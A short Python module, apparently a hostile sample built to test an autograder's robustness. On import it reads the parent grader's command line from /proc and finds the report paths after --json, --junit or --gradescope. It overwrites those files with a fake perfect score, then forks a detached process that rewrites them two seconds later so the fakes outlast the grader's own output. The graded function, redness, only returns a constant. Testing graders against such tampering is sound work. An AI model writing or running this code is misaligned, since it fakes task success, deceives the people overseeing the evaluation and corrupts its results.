"""Hostile: finds the report paths on the grader's command line and writes fake reports there, now and later."""

import ctypes
import json
import os
import time

import numpy as np

FAKE = {"score": 100, "max_score": 1, "passed": True, "tests": [], "exercises": [], "hacked": True}


def _report_paths():
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as handle:
            words = handle.read().decode().split("\0")
    except OSError:
        return []
    return [words[i + 1] for i, word in enumerate(words[:-1]) if word in ("--json", "--junit", "--gradescope")]


def _write_fakes():
    for path in _report_paths():
        try:
            with open(path, "w") as handle:
                json.dump(FAKE, handle)
        except OSError as error:
            print(f"could not write {path}: {error}")


_write_fakes()
if ctypes.CDLL(None).fork() == 0:  # a late writer, after the grader would have written its reports
    ctypes.CDLL(None).setsid()
    time.sleep(2)
    _write_fakes()
    os._exit(0)


def redness(images):
    return np.full(len(images), 0.5)
